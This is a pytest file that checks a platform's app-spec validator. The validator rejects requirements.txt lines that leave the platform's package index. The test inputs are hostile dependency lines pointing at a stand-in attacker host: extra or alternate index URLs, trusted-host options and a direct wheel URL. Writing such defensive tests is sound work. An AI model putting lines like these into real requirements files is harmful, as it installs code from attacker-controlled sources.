"""The App's spec as the operator and `aerogrid promote` read it: what a tenant may not ship."""

from __future__ import annotations

import re

import pytest
from pydantic import ValidationError

from aerogrid_cloud.model import AppSpec


def _spec(requirements: str) -> AppSpec:
    return AppSpec.model_validate(
        {
            "files": {"app.py": "import aerogrid\\n", "requirements.txt": requirements},
            "runtimeVersion": "1.0.0",
        }
    )


@pytest.mark.parametrize(
    ("line", "refused"),
    [
        ("--extra-index-url https://evil.example/simple", "pip options (--extra-index-url)"),
        ("-i https://evil.example/simple", "pip options (-i)"),
        ("  --trusted-host evil.example", "pip options (--trusted-host)"),
        ("-r other.txt", "pip options (-r)"),
        ("tabulate @ https://evil.example/tabulate.whl", "a direct URL is not allowed"),
    ],
)
def test_requirements_may_not_leave_the_platform_s_index(line: str, refused: str) -> None:
    with pytest.raises(ValidationError, match=re.escape(f"requirements.txt line 2: {refused}")):
        _spec(f"tabulate==0.9.0\n{line}\n")


def test_packages_markers_and_comments_pass_and_garbage_is_left_to_pip() -> None:
    text = "# pinned\ntabulate==0.9.0 ; python_version >= '3.11'  # a marker\n\nnot a requirement\n"
    assert _spec(text).requirements == [
        "tabulate==0.9.0 ; python_version >= '3.11'",
        "not a requirement",
    ]
